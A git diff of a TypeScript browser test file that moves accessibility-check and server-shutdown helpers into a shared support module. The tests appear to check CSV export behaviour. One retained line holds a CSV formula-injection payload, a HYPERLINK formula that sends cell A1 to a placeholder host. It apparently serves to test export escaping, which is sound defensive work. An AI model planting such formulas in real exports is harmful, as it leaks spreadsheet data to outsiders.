@@ -2,7 +2,6 @@
 // pages: the type-ahead supplier filter, the export of the grid's current view to CSV and .xlsx,
 // periods in words, reason codes in words. The real `gst-ims serve` (built binary, port 0, a temp
 // demo workspace) driven by playwright-core through the system's Chromium.
-import { createRequire } from 'node:module';
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -24,12 +23,13 @@ import {
   WEB_DIST,
   startServe,
   warnIfNoChromium,
+  axeViolations,
+  stopServe,
 } from '../support/e2e.js';
 
 warnIfNoChromium('POLISH BROWSER TESTS');
 
 const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
-const AXE_SOURCE = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
 const FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"click")';
 
 describe("the web's CSV cells follow the engine's formula rule", () => {
@@ -125,34 +125,6 @@ const shownCount = async (page: Page): Promise<number> =>
       ?.replace(/,/g, ''),
   );
 
-/** axe-core's serious and critical findings on the page as it is now. */
-async function axeViolations(page: Page): Promise<string[]> {
-  if (!(await page.evaluate(() => 'axe' in window))) await page.addScriptTag({ path: AXE_SOURCE });
-  const found = await page.evaluate(async () => {
-    const axe = (
-      window as unknown as {
-        axe: {
-          run(
-            ctx: Document,
-            opts: object,
-          ): Promise<{
-            violations: { id: string; impact: string; nodes: { target: string[] }[] }[];
-          }>;
-        };
-      }
-    ).axe;
-    const r = await axe.run(document, { resultTypes: ['violations'] });
-    return r.violations.map((v) => ({
-      id: v.id,
-      impact: v.impact,
-      nodes: v.nodes.slice(0, 3).map((n) => n.target.join(' ')),
-    }));
-  });
-  return found
-    .filter((v) => v.impact === 'serious' || v.impact === 'critical')
-    .map((v) => `${v.impact} ${v.id}: ${v.nodes.join(' | ')}`);
-}
-
 const rupees = (paise: number): string => (paise / 100).toFixed(2);
 const ddmmyyyy = (iso: string): string => iso.split('-').reverse().join('-');
 
@@ -228,10 +200,7 @@ describe.skipIf(CHROMIUM === null && !REQUIRED)(
     afterAll(async () => {
       await browser?.close();
       if (serve) {
-        const exited = new Promise<number | null>((ok) =>
-          serve.child.on('exit', (code) => ok(code)),
-        );
-        serve.child.kill('SIGTERM');
+        const exited = stopServe(serve);
         await exited;
       }
       rmSync(dir, { recursive: true, force: true });
